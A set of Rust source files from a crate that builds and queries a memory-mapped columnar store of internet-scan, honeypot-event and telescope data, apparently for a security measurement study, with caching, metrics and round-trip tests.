    /// `Err(())` = label unknown to the store, the result is empty.
    fn resolve<'a>(
        filter: &Option<String>,
        dict: &'a DictView,
    ) -> std::result::Result<Option<(&'a DictView, u8)>, ()> {
        match filter {
            None => Ok(None),
            Some(label) => match dict.code_of(label) {
                Some(code) => Ok(Some((dict, code))),
                None => Err(()),
            },
        }
    }

    /// Bitmap-AND count over any number of (dict, code) predicates.
    fn count_filtered(&self, rows: usize, filters: &[(&DictView, u8)]) -> u64 {
        match filters {
            [] => rows as u64,
            [(d, c)] => d.count(self.bytes(), *c),
            [(first, c0), rest @ ..] => {
                let file = self.bytes();
                let words = rows.div_ceil(64);
                let mut total = 0u64;
                for w in 0..words {
                    let mut acc = first.bitmap_word(file, *c0, w);
                    for (d, c) in rest {
                        acc &= d.bitmap_word(file, *c, w);
                    }
                    total += acc.count_ones() as u64;
                }
                total
            }
        }
    }

    pub fn host_lookup(&self, addr: Ipv4Addr) -> Result<Vec<HostHit>> {
        Ok(self.host_lookup_stats(addr)?.0)
    }

    /// [`StoreReader::host_lookup`] plus the zone-map prune count (rows in
    /// blocks the lookup never decoded). Deterministic for a given store.
    pub fn host_lookup_stats(&self, addr: Ipv4Addr) -> Result<(Vec<HostHit>, u64)> {
        let file = self.bytes();
        let t = self.table("scan")?;
        let addrs = t.u32("addr")?;
        let source = t.dict("source")?;
        let ports = t.u16("port")?;
        let protocol = t.dict("protocol")?;
        let misconfig = t.dict("misconfig")?;
        let device = t.dict("device")?;
        let country = t.dict("country")?;
        let asn1 = t.u32("asn1")?;
        let hp = t.bitset("hp_filtered")?;
        let none = |s: &str| {
            if s == crate::build::NONE_LABEL {
                None
            } else {
                Some(s.to_string())
            }
        };
        let mut hits = Vec::new();
        let pruned = addrs.for_each_eq(file, u32::from(addr), |row| {
            let a = asn1.get(file, row);
            hits.push(HostHit {
                source: source.label(file, row).to_string(),
                addr,
                port: ports.get(file, row),
                protocol: protocol.label(file, row).to_string(),
                misconfig: none(misconfig.label(file, row)),
                device: none(device.label(file, row)),
                country: country.label(file, row).to_string(),
                asn: if a == 0 { None } else { Some(a - 1) },
                hp_filtered: hp.get(file, row),
            });
        });
        Ok((hits, pruned))
    }

    pub fn count_scan(
        &self,
        source: &Option<String>,
        protocol: &Option<String>,
        misconfig: &Option<String>,
        country: &Option<String>,
    ) -> Result<u64> {
        let t = self.table("scan")?;
        let specs = [
            (source, t.dict("source")?),
            (protocol, t.dict("protocol")?),
            (misconfig, t.dict("misconfig")?),
            (country, t.dict("country")?),
        ];
        let mut filters = Vec::new();
        for (f, d) in specs {
            match Self::resolve(f, d) {
                Ok(Some(p)) => filters.push(p),
                Ok(None) => {}
                Err(()) => return Ok(0),
            }
        }
        Ok(self.count_filtered(t.rows, &filters))
    }

    pub fn count_events(
        &self,
        honeypot: &Option<String>,
        protocol: &Option<String>,
        attack_type: &Option<String>,
        class: &Option<String>,
    ) -> Result<u64> {
        let t = self.table("events")?;
        let specs = [
            (honeypot, t.dict("honeypot")?),
            (protocol, t.dict("protocol")?),
            (attack_type, t.dict("attack_type")?),
            (class, t.dict("src_class")?),
        ];
        let mut filters = Vec::new();
        for (f, d) in specs {
            match Self::resolve(f, d) {
                Ok(Some(p)) => filters.push(p),
                Ok(None) => {}
                Err(()) => return Ok(0),
            }
        }
        Ok(self.count_filtered(t.rows, &filters))
    }

    pub fn events_in_range(
        &self,
        start_ms: u64,
        end_ms: u64,
        honeypot: &Option<String>,
    ) -> Result<u64> {
        Ok(self.events_in_range_stats(start_ms, end_ms, honeypot)?.0)
    }

    /// [`StoreReader::events_in_range`] plus the restart-directory prune
    /// count (rows in blocks the range scan never decoded).
    pub fn events_in_range_stats(
        &self,
        start_ms: u64,
        end_ms: u64,
        honeypot: &Option<String>,
    ) -> Result<(u64, u64)> {
        let file = self.bytes();
        let t = self.table("events")?;
        let times = t.t64("time")?;
        let hp_dict = t.dict("honeypot")?;
        let hp = match Self::resolve(honeypot, hp_dict) {
            Ok(p) => p,
            Err(()) => return Ok((0, 0)),
        };
        let mut n = 0u64;
        let pruned = times.for_each_in_range(file, start_ms, end_ms, |row, _| {
            let keep = match hp {
                None => true,
                Some((d, c)) => d.code(file, row) == c,
            };
            if keep {
                n += 1;
            }
        })?;
        Ok((n, pruned))
    }

    pub fn count_telescope(
        &self,
        protocol: &Option<String>,
        country: &Option<String>,
    ) -> Result<u64> {
        let t = self.table("telescope")?;
        let specs = [
            (protocol, t.dict("protocol")?),
            (country, t.dict("country")?),
        ];
        let mut filters = Vec::new();
        for (f, d) in specs {
            match Self::resolve(f, d) {
                Ok(Some(p)) => filters.push(p),
                Ok(None) => {}
                Err(()) => return Ok(0),
            }
        }
        Ok(self.count_filtered(t.rows, &filters))
    }

    pub fn info(&self) -> Result<String> {
        let mut out = String::new();
        out.push_str(&format!(
            "ofh_store segment ({} bytes, {})\n",
            self.bytes().len(),
            if self.is_mapped() { "mmap" } else { "owned" },
        ));
        for key in ["format", "seed", "shards", "preset"] {
            if let Some(v) = self.meta(key) {
                out.push_str(&format!("  {key}: {v}\n"));
            }
        }
        for (name, t) in &self.seg.tables {
            if name == "meta" {
                continue;
            }
            out.push_str(&format!("  table {name}: {} rows, columns:", t.rows));
            for col in t.columns.keys() {
                out.push_str(&format!(" {col}"));
            }
            out.push('\n');
        }
        Ok(out)
    }

    /// Execute one query.
    pub fn execute(&self, q: &Query) -> Result<Answer> {
        Ok(self.execute_stats(q)?.0)
    }

    /// Execute one query, also returning the number of rows pruned by the
    /// zone map / restart directory (0 for bitmap and rendered queries,
    /// which never visit row blocks at all). The prune count is a pure
    /// function of the store and the query — it feeds the deterministic
    /// section of the engine's metrics snapshot.
    pub fn execute_stats(&self, q: &Query) -> Result<(Answer, u64)> {
        match q {
            Query::HostLookup { addr } => {
                let (hits, pruned) = self.host_lookup_stats(*addr)?;
                Ok((Answer::Hosts(hits), pruned))
            }
            Query::CountScan {
                source,
                protocol,
                misconfig,
                country,
            } => Ok((
                Answer::Count(self.count_scan(source, protocol, misconfig, country)?),
                0,
            )),
            Query::CountEvents {
                honeypot,
                protocol,
                attack_type,
                class,
            } => Ok((
                Answer::Count(self.count_events(honeypot, protocol, attack_type, class)?),
                0,
            )),
            Query::EventsInRange {
                start_ms,
                end_ms,
                honeypot,
            } => {
                let (n, pruned) = self.events_in_range_stats(*start_ms, *end_ms, honeypot)?;
                Ok((Answer::Count(n), pruned))
            }
            Query::CountTelescope { protocol, country } => {
                Ok((Answer::Count(self.count_telescope(protocol, country)?), 0))
            }
            Query::Table(4) => Ok((Answer::Rendered(crate::tables::table4(self)?.render()), 0)),
            Query::Table(5) => Ok((Answer::Rendered(crate::tables::table5(self)?.render()), 0)),
            Query::Table(7) => Ok((Answer::Rendered(crate::tables::table7(self)?.render()), 0)),
            Query::Table(n) => Err(FormatError(format!("table {n} is not stored (use 4, 5 or 7)"))),
            Query::Info => Ok((Answer::Rendered(self.info()?), 0)),
        }
    }
}

/// Default answer-cache capacity.
pub const DEFAULT_CACHE_CAPACITY: usize = 256;

/// Query classes, in snapshot label order. Each [`Query`] variant maps to
/// exactly one class; per-class counters in the engine snapshot carry these
/// as labels (`store.query.executed{host}`, …).
pub const QUERY_CLASSES: [&str; 7] =
    ["host", "scan", "events", "range", "telescope", "table", "info"];

/// Index of a query's class in [`QUERY_CLASSES`].
fn class_index(q: &Query) -> usize {
    match q {
        Query::HostLookup { .. } => 0,
        Query::CountScan { .. } => 1,
        Query::CountEvents { .. } => 2,
        Query::EventsInRange { .. } => 3,
        Query::CountTelescope { .. } => 4,
        Query::Table(_) => 5,
        Query::Info => 6,
    }
}

/// Per-class instrumentation cells. `executed` and `rows_pruned` are
/// deterministic (functions of the query sequence and the store);
/// `latency_ns` is wall clock and therefore volatile.
#[derive(Debug, Default)]
struct ClassStats {
    executed: AtomicU64,
    rows_pruned: AtomicU64,
    latency_ns: ofh_obs::AtomicHistogram,
}

struct Lru {
    entries: BTreeMap<Query, (Answer, u64)>,
    stamp: u64,
    capacity: usize,
}

/// A [`StoreReader`] plus a small LRU answer cache. Cheap queries bypass
/// caching entirely (a bitmap count is faster than a map lookup is worth);
/// rendered tables — the expensive reconstructions — are cached.
///
/// The engine counts every query by class, accumulates zone-map /
/// restart-directory prune totals, and records wall-clock latency
/// histograms; [`QueryEngine::snapshot`] exports them as a
/// [`ofh_obs::MetricsSnapshot`] whose deterministic section depends only on
/// the query sequence and the store bytes — the regression sentinel's
/// contract.
pub struct QueryEngine {
    reader: std::sync::Arc<StoreReader>,
    cache: Mutex<Lru>,
    hits: AtomicU64,
    misses: AtomicU64,
    stats: [ClassStats; 7],
}

impl QueryEngine {
    pub fn new(reader: std::sync::Arc<StoreReader>) -> QueryEngine {
        Self::with_capacity(reader, DEFAULT_CACHE_CAPACITY)
    }

    pub fn with_capacity(reader: std::sync::Arc<StoreReader>, capacity: usize) -> QueryEngine {
        QueryEngine {
            reader,
            cache: Mutex::new(Lru {
                entries: BTreeMap::new(),
                stamp: 0,
                capacity,
            }),
            hits: AtomicU64::new(0),
            misses: AtomicU64::new(0),
            stats: Default::default(),
        }
    }

    pub fn reader(&self) -> &StoreReader {
        &self.reader
    }

    /// Whether answers to this query are worth caching.
    fn cacheable(q: &Query) -> bool {
        matches!(q, Query::Table(_) | Query::Info | Query::EventsInRange { .. })
    }

    pub fn query(&self, q: &Query) -> Result<Answer> {
        let started = std::time::Instant::now();
        let stats = &self.stats[class_index(q)];
        stats.executed.fetch_add(1, Ordering::Relaxed);
        let answer = self.query_uninstrumented(q, stats);
        // Wall clock only — never feeds the deterministic section.
        stats
            .latency_ns
            .record(started.elapsed().as_nanos().min(u64::MAX as u128) as u64);
        answer
    }

    fn query_uninstrumented(&self, q: &Query, stats: &ClassStats) -> Result<Answer> {
        let run = |q: &Query| -> Result<Answer> {
            let (answer, pruned) = self.reader.execute_stats(q)?;
            stats.rows_pruned.fetch_add(pruned, Ordering::Relaxed);
            Ok(answer)
        };
        if !Self::cacheable(q) {
            return run(q);
        }
        {
            let mut cache = self.cache.lock().unwrap();
            cache.stamp += 1;
            let stamp = cache.stamp;
            if let Some((answer, at)) = cache.entries.get_mut(q) {
                *at = stamp;
                let answer = answer.clone();
                drop(cache);
                self.hits.fetch_add(1, Ordering::Relaxed);
                return Ok(answer);
            }
        }
        self.misses.fetch_add(1, Ordering::Relaxed);
        let answer = run(q)?;
        let mut cache = self.cache.lock().unwrap();
        cache.stamp += 1;
        let stamp = cache.stamp;
        if cache.entries.len() >= cache.capacity {
            // Evict the least-recently-used entry (deterministic: stamps
            // are unique under the lock).
            if let Some(victim) = cache
                .entries
                .iter()
                .min_by_key(|(_, (_, at))| *at)
                .map(|(k, _)| k.clone())
            {
                cache.entries.remove(&victim);
            }
        }
        cache.entries.insert(q.clone(), (answer.clone(), stamp));
        Ok(answer)
    }

    /// (cache hits, cache misses) so far.
    pub fn cache_stats(&self) -> (u64, u64) {
        (
            self.hits.load(Ordering::Relaxed),
            self.misses.load(Ordering::Relaxed),
        )
    }

    /// Export the engine's instrumentation as a metrics snapshot.
    ///
    /// Deterministic section: `store.query.executed{class}`,
    /// `store.query.rows_pruned{class}` (all classes, zeros included, so the
    /// key set is stable), `store.query.cache_hits` and
    /// `store.query.cache_misses` — all pure functions of the query
    /// sequence and the store. Run identity (seed/shards/preset) comes from
    /// the store's own `meta` table. Volatile section: per-class wall-clock
    /// latency histograms under `host.latency` (`query.host`, …), in
    /// nanoseconds. `per_shard_events` is empty — there is no event loop
    /// behind an engine.
    pub fn snapshot(&self) -> ofh_obs::MetricsSnapshot {
        let meta_u64 = |key: &str| {
            self.reader
                .meta(key)
                .and_then(|v| v.parse::<u64>().ok())
                .unwrap_or(0)
        };
        let mut reg = ofh_obs::MetricRegistry::new();
        reg.count("store.query.cache_hits", "", self.hits.load(Ordering::Relaxed));
        reg.count("store.query.cache_misses", "", self.misses.load(Ordering::Relaxed));
        for (i, class) in QUERY_CLASSES.iter().enumerate() {
            reg.count("store.query.executed", class, self.stats[i].executed.load(Ordering::Relaxed));
            reg.count(
                "store.query.rows_pruned",
                class,
                self.stats[i].rows_pruned.load(Ordering::Relaxed),
            );
        }
        let mut snap = ofh_obs::MetricsSnapshot::from_registry(
            meta_u64("seed"),
            meta_u64("shards") as u32,
            self.reader.meta("preset").unwrap_or("unknown"),
            &reg,
            Vec::new(),
        );
        for (i, class) in QUERY_CLASSES.iter().enumerate() {
            let h = self.stats[i].latency_ns.snapshot();
            if h.count > 0 {
                snap.host.latency.insert(
                    format!("query.{class}"),
                    ofh_obs::HistogramSnapshot::from_histogram(&h),
                );
            }
        }
        snap
    }
}
