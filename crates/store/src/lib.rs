//! `ofh-store` — the memory-mapped columnar study store and its query
//! engine.
//!
//! The study pipeline ends in rendered tables; this crate ends it in a
//! *queryable artifact*. [`build_store`] serializes the merged scan
//! results, honeypot events and telescope capture into one columnar
//! segment file (dictionary-encoded categorical columns with bitmap
//! indexes, delta-encoded time columns with restart blocks, per-block
//! zone maps), written deterministically: the bytes are a pure function
//! of (seed, shards), byte-identical across worker counts like every
//! other study artifact.
//!
//! [`StoreReader`] memory-maps the file and answers queries with
//! predicate pushdown — bitmap AND + popcount for label predicates, zone
//! maps for point lookups, restart-block skipping for time ranges —
//! without materializing rows. [`QueryEngine`] shares one reader across
//! threads behind an `Arc` and adds a small LRU answer cache.
//!
//! Module map:
//! - [`bytes`] — little-endian + LEB128 primitives
//! - [`mmap`] — the read-only mapping (no external crate)
//! - [`column`] — the five physical column encodings
//! - [`segment`] — file layout: TOC, tables, column directories
//! - [`build`] — study artifacts → segment bytes
//! - [`query`] — [`StoreReader`], [`Query`], [`QueryEngine`]
//! - [`tables`] — Tables 4/5/7 re-derived from columns

pub mod build;
pub mod bytes;
pub mod column;
pub mod mmap;
pub mod query;
pub mod segment;
pub mod tables;

pub use build::{build_store, write_store, StoreInput};
pub use bytes::FormatError;
pub use query::{Answer, HostHit, Query, QueryEngine, StoreReader};
