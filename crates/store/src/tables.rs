//! Reconstruct study tables from the store.
//!
//! Each function re-derives one `ofh_analysis` table struct purely from
//! stored columns, following the original `compute` row ordering step for
//! step — `render()` on the result must be byte-identical to the report's.
//! This is the store's ground-truth contract, enforced by the round-trip
//! tests: if a column encoding lost information the tables need, these
//! renders would diverge.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use ofh_analysis::table4::{Table4, Table4Row};
use ofh_analysis::table5::{Table5, Table5Row};
use ofh_analysis::table7::{Table7, Table7Row, Table7Sources};
use ofh_devices::Misconfig;
use ofh_honeypots::HoneypotKind;
use ofh_wire::Protocol;

use crate::build::{misconfig_label, NONE_LABEL};
use crate::bytes::{FormatError, Result};
use crate::query::StoreReader;

/// Decode a protocol dictionary label back to the enum.
pub fn protocol_from_label(label: &str) -> Result<Protocol> {
    Protocol::ALL
        .iter()
        .copied()
        .find(|p| p.name() == label)
        .ok_or_else(|| FormatError(format!("unknown protocol label {label:?}")))
}

/// Decode a misconfiguration dictionary label back to the enum.
pub fn misconfig_from_label(label: &str) -> Result<Misconfig> {
    Misconfig::ALL
        .iter()
        .copied()
        .find(|&m| misconfig_label(m) == label)
        .ok_or_else(|| FormatError(format!("unknown misconfig label {label:?}")))
}

/// Decode a honeypot dictionary label to its static name.
fn honeypot_from_label(label: &str) -> Result<&'static str> {
    HoneypotKind::ALL
        .iter()
        .map(|hp| hp.name())
        .find(|&n| n == label)
        .ok_or_else(|| FormatError(format!("unknown honeypot label {label:?}")))
}

/// Table 4 — unique exposed hosts per (source, protocol).
pub fn table4(store: &StoreReader) -> Result<Table4> {
    let file = store.bytes();
    let t = store.table("scan")?;
    let source = t.dict("source")?;
    let protocol = t.dict("protocol")?;
    let addrs = t.u32("addr")?;

    // Unique addresses per (source code, protocol).
    let mut uniq: BTreeMap<(u8, Protocol), BTreeSet<u32>> = BTreeMap::new();
    let proto_of: Vec<Protocol> = protocol
        .labels
        .iter()
        .map(|l| protocol_from_label(l))
        .collect::<Result<_>>()?;
    for row in 0..t.rows {
        let key = (source.code(file, row), proto_of[protocol.code(file, row) as usize]);
        uniq.entry(key).or_default().insert(addrs.get(file, row));
    }
    let count = |src: &str, p: Protocol| -> u64 {
        source
            .code_of(src)
            .and_then(|c| uniq.get(&(c, p)))
            .map(|s| s.len() as u64)
            .unwrap_or(0)
    };

    let mut rows: Vec<Table4Row> = Protocol::SCANNED
        .iter()
        .map(|&p| Table4Row {
            protocol: p,
            zmap: count("ZMap Scan", p),
            sonar: if ofh_scan::datasets::sonar_coverage(p).is_some() {
                Some(count("Project Sonar", p))
            } else {
                None
            },
            shodan: count("Shodan", p),
        })
        .collect();
    rows.sort_by_key(|r| r.zmap);
    Ok(Table4 { rows })
}

/// Table 5 — misconfigured ZMap devices per class, honeypot rows filtered.
pub fn table5(store: &StoreReader) -> Result<Table5> {
    let file = store.bytes();
    let t = store.table("scan")?;
    let source = t.dict("source")?;
    let misconfig = t.dict("misconfig")?;
    let addrs = t.u32("addr")?;
    let hp = t.bitset("hp_filtered")?;

    let zmap_code = source.code_of("ZMap Scan");
    let class_of: Vec<Option<Misconfig>> = misconfig
        .labels
        .iter()
        .map(|l| {
            if l == NONE_LABEL {
                Ok(None)
            } else {
                misconfig_from_label(l).map(Some)
            }
        })
        .collect::<Result<_>>()?;

    let mut per_class: BTreeMap<Misconfig, BTreeSet<u32>> = BTreeMap::new();
    let mut any: BTreeSet<u32> = BTreeSet::new();
    let mut honeypots_filtered = 0usize;
    for row in 0..t.rows {
        if Some(source.code(file, row)) != zmap_code {
            continue;
        }
        if hp.get(file, row) {
            // Records `remove_addrs` would drop before classification.
            honeypots_filtered += 1;
            continue;
        }
        if let Some(class) = class_of[misconfig.code(file, row) as usize] {
            let addr = addrs.get(file, row);
            per_class.entry(class).or_default().insert(addr);
            any.insert(addr);
        }
    }

    let mut rows: Vec<Table5Row> = Misconfig::ALL
        .iter()
        .map(|&class| Table5Row {
            class,
            devices: per_class.get(&class).map(|s| s.len() as u64).unwrap_or(0),
        })
        .collect();
    rows.sort_by_key(|r| r.devices);
    Ok(Table5 {
        rows,
        total: any.len() as u64,
        honeypots_filtered,
    })
}

/// Table 7 — events per (honeypot, protocol) plus per-honeypot unique
/// source splits, re-read from the stored `src_class` column.
pub fn table7(store: &StoreReader) -> Result<Table7> {
    let file = store.bytes();
    let t = store.table("events")?;
    let honeypot = t.dict("honeypot")?;
    let protocol = t.dict("protocol")?;
    let srcs = t.u32("src")?;
    let src_class = t.dict("src_class")?;

    let hp_of: Vec<&'static str> = honeypot
        .labels
        .iter()
        .map(|l| honeypot_from_label(l))
        .collect::<Result<_>>()?;
    let proto_of: Vec<Protocol> = protocol
        .labels
        .iter()
        .map(|l| protocol_from_label(l))
        .collect::<Result<_>>()?;

    let mut counts: BTreeMap<(&'static str, Protocol), u64> = BTreeMap::new();
    let mut seen: BTreeMap<&'static str, BTreeMap<Ipv4Addr, u8>> = BTreeMap::new();
    for row in 0..t.rows {
        let hp = hp_of[honeypot.code(file, row) as usize];
        let p = proto_of[protocol.code(file, row) as usize];
        *counts.entry((hp, p)).or_insert(0) += 1;
        // Classification is constant per (honeypot, src); first row wins.
        seen.entry(hp)
            .or_default()
            .entry(Ipv4Addr::from(srcs.get(file, row)))
            .or_insert_with(|| src_class.code(file, row));
    }

    let rows: Vec<Table7Row> = HoneypotKind::ALL
        .iter()
        .flat_map(|hp| {
            let name = hp.name();
            counts
                .iter()
                .filter(move |((h, _), _)| *h == name)
                .map(|(&(h, p), &n)| Table7Row {
                    honeypot: h,
                    protocol: p,
                    events: n,
                })
                .collect::<Vec<_>>()
        })
        .collect();
    let sources: Vec<Table7Sources> = HoneypotKind::ALL
        .iter()
        .map(|hp| {
            let name = hp.name();
            let mut out = Table7Sources {
                honeypot: name,
                scanning: 0,
                malicious: 0,
                unknown: 0,
            };
            if let Some(set) = seen.get(name) {
                for &code in set.values() {
                    match src_class.labels[code as usize].as_str() {
                        "scanning_service" => out.scanning += 1,
                        "malicious" => out.malicious += 1,
                        _ => out.unknown += 1,
                    }
                }
            }
            out
        })
        .collect();
    let total_events = rows.iter().map(|r| r.events).sum();
    Ok(Table7 {
        rows,
        sources,
        total_events,
    })
}
