//! Segment file layout.
//!
//! ```text
//! magic  "OFHSTOR1"                      8 bytes
//! version u32
//! table_count u32
//! TOC: table_count × { name: string, offset u64, len u64 }
//! …8-aligned table payloads…
//! ```
//!
//! A table payload:
//!
//! ```text
//! row_count u64
//! column_count u32
//! directory: column_count × { name: string, kind u8, offset u64, len u64 }
//!     (offsets relative to the table payload start)
//! …8-aligned column payloads…
//! ```
//!
//! Nothing in the file depends on anything but the logical content: no
//! timestamps, no hash-ordered iteration, padding is always zero. Two
//! builds from the same artifacts produce identical bytes, which is what
//! lets CI `cmp` store files across worker counts.

use std::collections::BTreeMap;

use crate::bytes::{FormatError, Reader, Result, Writer};
use crate::column::{
    BitsetView, DictView, T64View, U16View, U32View, KIND_BITSET, KIND_DICT8, KIND_T64, KIND_U16,
    KIND_U32,
};

pub const MAGIC: &[u8; 8] = b"OFHSTOR1";
pub const VERSION: u32 = 1;

// ---------------------------------------------------------------------------
// Writing
// ---------------------------------------------------------------------------

/// Accumulates encoded columns into one table payload.
pub struct TableBuilder {
    rows: u64,
    cols: Vec<(String, u8, Vec<u8>)>,
}

impl TableBuilder {
    pub fn new(rows: usize) -> TableBuilder {
        TableBuilder {
            rows: rows as u64,
            cols: Vec::new(),
        }
    }

    /// Add an encoded column payload under `name`.
    pub fn column(&mut self, name: &str, kind: u8, payload: Writer) {
        self.cols.push((name.to_string(), kind, payload.buf));
    }

    /// Serialize: header + directory + 8-aligned payloads.
    pub fn finish(self) -> Vec<u8> {
        // Directory size must be known before payload offsets can be fixed;
        // lay the header out once with zero offsets to measure it.
        let mut header = Writer::new();
        header.u64(self.rows);
        header.u32(self.cols.len() as u32);
        for (name, kind, _) in &self.cols {
            header.string(name);
            header.u8(*kind);
            header.u64(0);
            header.u64(0);
        }
        header.align8();
        let header_len = header.len();

        let mut offsets = Vec::with_capacity(self.cols.len());
        let mut at = header_len;
        for (_, _, payload) in &self.cols {
            offsets.push((at as u64, payload.len() as u64));
            at += payload.len();
            at = at.div_ceil(8) * 8;
        }

        let mut w = Writer::new();
        w.u64(self.rows);
        w.u32(self.cols.len() as u32);
        for ((name, kind, _), (off, len)) in self.cols.iter().zip(&offsets) {
            w.string(name);
            w.u8(*kind);
            w.u64(*off);
            w.u64(*len);
        }
        w.align8();
        debug_assert_eq!(w.len(), header_len);
        for (_, _, payload) in &self.cols {
            w.bytes(payload);
            w.align8();
        }
        w.buf
    }
}

/// Accumulates table payloads into one segment file.
pub struct SegmentWriter {
    tables: Vec<(String, Vec<u8>)>,
}

impl SegmentWriter {
    pub fn new() -> SegmentWriter {
        SegmentWriter { tables: Vec::new() }
    }

    pub fn table(&mut self, name: &str, payload: Vec<u8>) {
        self.tables.push((name.to_string(), payload));
    }

    pub fn finish(self) -> Vec<u8> {
        let mut header = Writer::new();
        header.bytes(MAGIC);
        header.u32(VERSION);
        header.u32(self.tables.len() as u32);
        for (name, _) in &self.tables {
            header.string(name);
            header.u64(0);
            header.u64(0);
        }
        header.align8();
        let header_len = header.len();

        let mut offsets = Vec::with_capacity(self.tables.len());
        let mut at = header_len;
        for (_, payload) in &self.tables {
            offsets.push((at as u64, payload.len() as u64));
            at += payload.len();
            at = at.div_ceil(8) * 8;
        }

        let mut w = Writer::new();
        w.bytes(MAGIC);
        w.u32(VERSION);
        w.u32(self.tables.len() as u32);
        for ((name, _), (off, len)) in self.tables.iter().zip(&offsets) {
            w.string(name);
            w.u64(*off);
            w.u64(*len);
        }
        w.align8();
        debug_assert_eq!(w.len(), header_len);
        for (_, payload) in &self.tables {
            w.bytes(payload);
            w.align8();
        }
        w.buf
    }
}

// ---------------------------------------------------------------------------
// Reading
// ---------------------------------------------------------------------------

/// A parsed column: typed view plus its directory entry.
#[derive(Debug, Clone)]
pub enum Column {
    U32(U32View),
    U16(U16View),
    Dict(DictView),
    T64(T64View),
    Bitset(BitsetView),
}

/// A parsed table: row count and views by column name. Views hold absolute
/// file offsets; pair them with the mapped bytes to read rows.
#[derive(Debug, Clone)]
pub struct TableView {
    pub rows: usize,
    pub columns: BTreeMap<String, Column>,
}

impl TableView {
    /// Parse a table payload found at `[off, off+len)` of `file`.
    pub fn parse(file: &[u8], off: usize, len: usize) -> Result<TableView> {
        let mut r = Reader::at(file, off);
        let rows = r.u64()? as usize;
        let n = r.u32()? as usize;
        let mut columns = BTreeMap::new();
        let mut dir = Vec::with_capacity(n);
        for _ in 0..n {
            let name = r.string()?;
            let kind = r.u8()?;
            let col_off = r.u64()? as usize;
            let col_len = r.u64()? as usize;
            dir.push((name, kind, col_off, col_len));
        }
        for (name, kind, col_off, col_len) in dir {
            let abs = off
                .checked_add(col_off)
                .filter(|&a| a + col_len <= off + len && a + col_len <= file.len())
                .ok_or_else(|| FormatError(format!("column {name} outside its table")))?;
            let col = match kind {
                KIND_U32 => Column::U32(U32View::parse(file, abs, col_len, rows)?),
                KIND_U16 => Column::U16(U16View::parse(file, abs, col_len, rows)?),
                KIND_DICT8 => Column::Dict(DictView::parse(file, abs, col_len, rows)?),
                KIND_T64 => Column::T64(T64View::parse(file, abs, col_len, rows)?),
                KIND_BITSET => Column::Bitset(BitsetView::parse(file, abs, col_len, rows)?),
                k => return Err(FormatError(format!("unknown column kind {k}"))),
            };
            columns.insert(name, col);
        }
        Ok(TableView { rows, columns })
    }

    fn col(&self, name: &str) -> Result<&Column> {
        self.columns
            .get(name)
            .ok_or_else(|| FormatError(format!("missing column {name}")))
    }

    pub fn u32(&self, name: &str) -> Result<&U32View> {
        match self.col(name)? {
            Column::U32(v) => Ok(v),
            _ => Err(FormatError(format!("column {name} is not U32"))),
        }
    }

    pub fn u16(&self, name: &str) -> Result<&U16View> {
        match self.col(name)? {
            Column::U16(v) => Ok(v),
            _ => Err(FormatError(format!("column {name} is not U16"))),
        }
    }

    pub fn dict(&self, name: &str) -> Result<&DictView> {
        match self.col(name)? {
            Column::Dict(v) => Ok(v),
            _ => Err(FormatError(format!("column {name} is not DICT8"))),
        }
    }

    pub fn t64(&self, name: &str) -> Result<&T64View> {
        match self.col(name)? {
            Column::T64(v) => Ok(v),
            _ => Err(FormatError(format!("column {name} is not T64"))),
        }
    }

    pub fn bitset(&self, name: &str) -> Result<&BitsetView> {
        match self.col(name)? {
            Column::Bitset(v) => Ok(v),
            _ => Err(FormatError(format!("column {name} is not BITSET"))),
        }
    }
}

/// The parsed segment: tables by name.
#[derive(Debug, Clone)]
pub struct SegmentView {
    pub tables: BTreeMap<String, TableView>,
}

impl SegmentView {
    pub fn parse(file: &[u8]) -> Result<SegmentView> {
        let mut r = Reader::new(file);
        let magic = r.slice(8)?;
        if magic != MAGIC {
            return Err(FormatError("bad magic: not an ofh_store segment".into()));
        }
        let version = r.u32()?;
        if version != VERSION {
            return Err(FormatError(format!("unsupported store version {version}")));
        }
        let n = r.u32()? as usize;
        let mut toc = Vec::with_capacity(n);
        for _ in 0..n {
            let name = r.string()?;
            let off = r.u64()? as usize;
            let len = r.u64()? as usize;
            toc.push((name, off, len));
        }
        let mut tables = BTreeMap::new();
        for (name, off, len) in toc {
            if off + len > file.len() {
                return Err(FormatError(format!("table {name} outside the file")));
            }
            tables.insert(name.clone(), TableView::parse(file, off, len)?);
        }
        Ok(SegmentView { tables })
    }

    pub fn table(&self, name: &str) -> Result<&TableView> {
        self.tables
            .get(name)
            .ok_or_else(|| FormatError(format!("missing table {name}")))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::column::{encode_bitset, encode_t64, encode_u16, encode_u32, DictBuilder};

    #[test]
    fn segment_roundtrip() {
        let rows = 2000usize;
        let addrs: Vec<u32> = (0..rows as u32).map(|i| i * 7).collect();
        let ports: Vec<u16> = (0..rows as u16).collect();
        let times: Vec<u64> = (0..rows as u64).map(|i| i * 3).collect();
        let flags: Vec<bool> = (0..rows).map(|i| i % 5 == 0).collect();
        let mut dict = DictBuilder::new();
        for i in 0..rows {
            dict.push(if i % 2 == 0 { "even" } else { "odd" });
        }

        let mut tb = TableBuilder::new(rows);
        let mut w = Writer::new();
        encode_u32(&mut w, &addrs, true);
        tb.column("addr", KIND_U32, w);
        let mut w = Writer::new();
        encode_u16(&mut w, &ports);
        tb.column("port", KIND_U16, w);
        let mut w = Writer::new();
        encode_t64(&mut w, &times);
        tb.column("time", KIND_T64, w);
        let mut w = Writer::new();
        encode_bitset(&mut w, &flags);
        tb.column("flag", KIND_BITSET, w);
        let mut w = Writer::new();
        dict.encode(&mut w);
        tb.column("parity", KIND_DICT8, w);

        let mut seg = SegmentWriter::new();
        seg.table("t", tb.finish());
        let file = seg.finish();

        let view = SegmentView::parse(&file).unwrap();
        let t = view.table("t").unwrap();
        assert_eq!(t.rows, rows);
        assert_eq!(t.u32("addr").unwrap().get(&file, 3), 21);
        assert_eq!(t.u16("port").unwrap().get(&file, 1999), 1999);
        assert_eq!(t.dict("parity").unwrap().label(&file, 3), "odd");
        assert_eq!(t.bitset("flag").unwrap().get(&file, 5), true);
        assert_eq!(t.bitset("flag").unwrap().get(&file, 6), false);
        let mut n = 0u64;
        t.t64("time").unwrap().for_each_in_range(&file, 0, u64::MAX, |_, _| n += 1).unwrap();
        assert_eq!(n, rows as u64);
        assert!(t.u32("missing").is_err());
    }

    #[test]
    fn rejects_bad_magic() {
        assert!(SegmentView::parse(b"NOTSTORE\0\0\0\0").is_err());
        assert!(SegmentView::parse(b"").is_err());
    }

    #[test]
    fn deterministic_bytes() {
        let build = || {
            let mut tb = TableBuilder::new(3);
            let mut w = Writer::new();
